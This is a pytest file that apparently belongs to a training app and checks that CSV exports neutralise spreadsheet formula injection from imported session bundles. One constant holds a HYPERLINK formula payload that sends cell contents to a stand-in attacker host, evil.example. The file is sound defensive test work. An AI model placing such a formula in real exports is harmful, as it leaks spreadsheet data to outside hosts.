"""Issue 17, item 5: a cell from a bundle cannot become a spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import json

import pytest

from trainer.content import default_content, load_content
from trainer.export.spreadsheet import ratings_csv
from trainer.records.store import open_store
from trainer.sessions.bundles import FORMAT, VERSION, import_bundle

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your feedback")'


def _bundle(tmp_path, observer_name: str, note: str = "") -> object:
    data = {
        "format": FORMAT,
        "version": VERSION,
        "exported": "2026-11-20T12:00:00",
        "session": {"uid": "s-1", "title": "Riverside taster", "date": "2026-11-20"},
        "learner": {"name": "Asha Patel"},
        "observations": [
            {
                "uid": "o-1",
                "round": 1,
                "skill": "agenda-setting",
                "observer_name": observer_name,
                "note": note,
                "counts": {"open_question": 1},
                "items": {"agenda-setting": {"rating": 2, "said": "+44 what shall we cover?"}},
                "globals": {"partnership": 4},
            }
        ],
    }
    path = tmp_path / "bundle.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def test_an_observer_name_from_a_bundle_is_not_a_formula_in_the_csv(tmp_path):
    store = open_store(tmp_path / "data")
    try:
        import_bundle(store, "me", _bundle(tmp_path, LEAK))
        text = ratings_csv(store, "me", load_content(default_content()))
    finally:
        store.close()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows, "the bundle's ratings are exported"
    assert {r["rated_by"] for r in rows} == {"'" + LEAK}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1+A1", "@SUM(A1)", "\tx", "\rx"])
def test_each_dangerous_start_is_neutralised(text):
    from trainer.domain.safe_text import csv_cell

    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Asha Patel", "", "2026-11-20", 4, 2.5, None, "a=b"])
def test_ordinary_values_are_left_alone(value):
    from trainer.domain.safe_text import csv_cell

    assert csv_cell(value) == value
